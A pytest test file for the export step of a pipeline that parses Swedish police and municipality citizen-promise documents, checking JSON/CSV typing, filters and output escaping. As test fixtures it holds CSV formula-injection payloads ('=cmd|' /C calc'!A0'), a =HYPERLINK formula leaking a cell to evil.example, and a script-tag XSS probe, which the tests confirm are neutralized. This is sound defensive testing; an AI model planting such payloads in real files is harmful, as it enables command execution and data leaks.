"""compare: typed JSON, pipe-friendly CSV (Excel form on request), every flag and place
column, the specificity distribution, filters, and CSV injection neutralized."""
import csv
import io
import json
import shutil

import pandas as pd
import pytest
from click.testing import CliRunner

from pipeline.batch import run_batch
from pipeline.cli import cli

from conftest import CORPUS

HOSTILE = ("Ale – medborgarlöften\n\nMedborgarlöfte 2024\n\nAktiviteter\n\n"
           "  • =cmd|' /C calc'!A0 Polisen ska genomföra trafikkontroller varje vecka.\n"
           "  • @SUM(1+1)*cmd|' /C calc'!A0 Kommunen ska ordna trygghetsvandringar.\n")


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    src = tmp_path_factory.mktemp("src")
    for stem in ("polisen-se__alingsas", "polisen-se__tjorn-kommun", "polisen-se__goteborg-centrum", "polisen-se__goteborg-lundby",
                 "tjorn-se__medborgarloftet-4-3431e9c81576d71a1d617663",
                 "bollebygd-se__samverkansoverenskommelsemellanlokalpolisochbollebygdskommun-5-7882995816a157599972b155"):
        for ext in (".txt", ".meta.json"):
            shutil.copyfile(CORPUS / "pages" / f"{stem}{ext}", src / f"{stem}{ext}")
    (src / "ale.txt").write_text(HOSTILE, encoding="utf-8")
    (src / "ale.meta.json").write_text(json.dumps({"url": "https://polisen.se/x/ale/"}), encoding="utf-8")
    out = tmp_path_factory.mktemp("out")
    assert run_batch([str(src)], out).failures == []
    return out


def _cmp(*args):
    res = CliRunner().invoke(cli, ["compare", *map(str, args)])
    assert res.exit_code == 0, res.output
    return res.output


def test_json_is_typed(out):
    rows = json.loads(_cmp(out, "--format", "json"))
    ale = next(r for r in rows if r["id"] == "ale-2024")
    assert ale["period_start"] == 2024 and ale["period_end"] == 2024 and ale["activities"] == 2
    assert isinstance(ale["measurable_share"], float) and ale["lokalpolisomrade"] is None
    assert ale["same_as"] is None and ale["polisregion"] == "Väst"
    acts = json.loads(_cmp(out, "--format", "json", "--activities", "--kommun", "Ale"))
    assert acts[0]["times"] == 1 and acts[0]["per"] == "week" and acts[0]["at_least"] is False
    assert acts[1]["times"] is None and acts[1]["per"] is None  # missing is null, not ""
    assert acts[0]["named_actor"] is True and acts[0]["specificity"] == 3


def test_csv_to_a_pipe_is_plain_and_reads_back(out, tmp_path):
    text = _cmp(out)
    assert not text.startswith("\ufeff") and "\r" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    cols = set(rows[0])
    assert {"period_start", "period_end", "lokalpolisomrade", "polisregion", "with_named_actor",
            "with_count_or_frequency", "with_place", "with_time_bound", "specificity_4", "mean_specificity"} <= cols
    df = pd.read_csv(io.StringIO(text))
    assert df["period_start"].dtype.kind == "i" and df["activities"].dtype.kind == "i"
    acts = pd.read_csv(io.StringIO(_cmp(out, "--activities")))
    assert {"named_actor", "count_or_frequency", "place", "time_bound", "specificity", "lokalpolisomrade",
            "polisregion", "period_start", "period_end"} <= set(acts.columns)
    assert set(acts["named_actor"]) <= {0, 1}


def test_excel_form_by_flag_and_by_csv_file_name(out, tmp_path):
    assert _cmp(out, "--excel").startswith("\ufeff")
    f = tmp_path / "k.csv"
    _cmp(out, "-o", f)
    raw = f.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    _cmp(out, "-o", f, "--plain-csv")
    assert not f.read_bytes().startswith(b"\xef\xbb\xbf")


def test_csv_injection_is_neutralized(out, tmp_path):
    acts = list(csv.DictReader(io.StringIO(_cmp(out, "--activities", "--kommun", "ale"))))
    assert [a["text"][:5] for a in acts] == ["'=cmd", "'@SUM"]
    # a record whose source url is a formula (a hostile sidecar or records file)
    rec = json.loads((out / "ale-2024.json").read_text(encoding="utf-8"))
    rec["source"]["url"] = '=HYPERLINK("http://evil.example/?x="&A1,"klicka")'
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "ale-2024.json").write_text(json.dumps(rec), encoding="utf-8")
    for text in (_cmp(tmp_path / "evil"), _cmp(tmp_path / "evil", "--activities")):
        row = next(csv.DictReader(io.StringIO(text)))
        assert row["url"].startswith("'=HYPERLINK")
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert json.loads(_cmp(tmp_path / "evil", "--format", "json"))[0]["url"].startswith("=HYPERLINK")  # data, not a sheet


def test_canonical_by_default_and_all_sources(out):
    ids = [r["id"] for r in json.loads(_cmp(out, "--format", "json"))]
    every = json.loads(_cmp(out, "--format", "json", "--all-sources"))
    assert set(ids) < {r["id"] for r in every}
    assert all(r["same_as"] in ids for r in every if r["same_as"])


def test_national_specificity_distribution(out):
    rows = json.loads(_cmp(out, "--national", "--format", "json"))
    assert [r["specificity"] for r in rows] == [0, 1, 2, 3, 4]
    acts = json.loads(_cmp(out, "--activities", "--format", "json"))
    assert sum(r["activities"] for r in rows) == len(acts)
    assert rows[3]["activities"] == sum(a["specificity"] == 3 for a in acts)
    assert abs(sum(r["share"] for r in rows) - 1) < 1e-3


def test_filters(out):
    def ids(*f):
        return {r["id"] for r in json.loads(_cmp(out, "--format", "json", "--all-sources", *f))}
    every = ids()
    assert ids("--kommun", "TJÖRN") == ids("--kommun", "1419") == {i for i in every if i.startswith("tjorn")}
    assert ids("--kommun", "tjorn", "--kommun", "ale") == ids("--kommun", "tjorn") | {"ale-2024"}
    assert ids("--year", "2024") >= {"ale-2024"} and "alingsas-2019" not in ids("--year", "2024")
    assert ids("--region", "vast") == every  # all of these kommuner are in region Väst
    assert CliRunner().invoke(cli, ["compare", str(out), "--region", "Syd"]).exit_code == 1
    assert ids("--lpo", "Alingsås") == {"alingsas-2019"}
    agreements = {i for i in every if i.endswith("-samverkansoverenskommelse")}
    assert agreements and ids("--doc-type", "samverkansoverenskommelse") == agreements
    assert ids("--doc-type", "medborgarlofte") == every - agreements


def test_empty_input_is_an_error(tmp_path, out):
    res = CliRunner().invoke(cli, ["compare", str(tmp_path)])
    assert res.exit_code == 1 and "no records found" in res.output and "\ufeff" not in res.output
    res = CliRunner().invoke(cli, ["compare", str(out), "--kommun", "Kiruna"])
    assert res.exit_code == 1 and "no records match the filters (kommun Kiruna)" in res.output


def test_a_formula_as_sidecar_url_never_reaches_a_sheet_live(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "ale.txt").write_text(HOSTILE, encoding="utf-8")
    url = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
    (src / "ale.meta.json").write_text(json.dumps({"url": url}), encoding="utf-8")
    res = CliRunner().invoke(cli, ["extract", str(src), "-o", str(tmp_path / "out")])
    if res.exit_code == 0:  # the url is taken as it is: the CSV rule must hold
        for text in (_cmp(tmp_path / "out"), _cmp(tmp_path / "out", "--activities")):
            rows = list(csv.DictReader(io.StringIO(text)))
            assert rows and all(r["url"] == "'" + url for r in rows)
    else:  # or ingest refuses a url that is not http(s): one line naming the sidecar's document
        assert res.exit_code == 1 and "ale" in res.output and "url" in res.output


def test_html_and_markdown_show_missing_as_empty(out):
    html = _cmp(out, "--format", "html", "--activities")
    md = _cmp(out, "--format", "markdown", "--activities")
    assert "<table" in html and ">None<" not in html and "| None |" not in md and "| True |" not in md


def test_markdown_lets_no_html_through(tmp_path):
    src, dest = tmp_path / "src", tmp_path / "out"
    src.mkdir()
    (src / "ale.txt").write_text("Ale – medborgarlöften\n\nMedborgarlöfte 2024\n\nAktiviteter\n\n"
                                 "  • <script>alert(1)</script> Polisen ska patrullera i centrum varje fredag.\n",
                                 encoding="utf-8")
    (src / "ale.meta.json").write_text(json.dumps({"url": "https://polisen.se/x/ale/"}), encoding="utf-8")
    assert run_batch([str(src)], dest).failures == []
    md = _cmp(dest, "--format", "markdown", "--activities")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Polisen ska patrullera" in md and "<script>" not in md
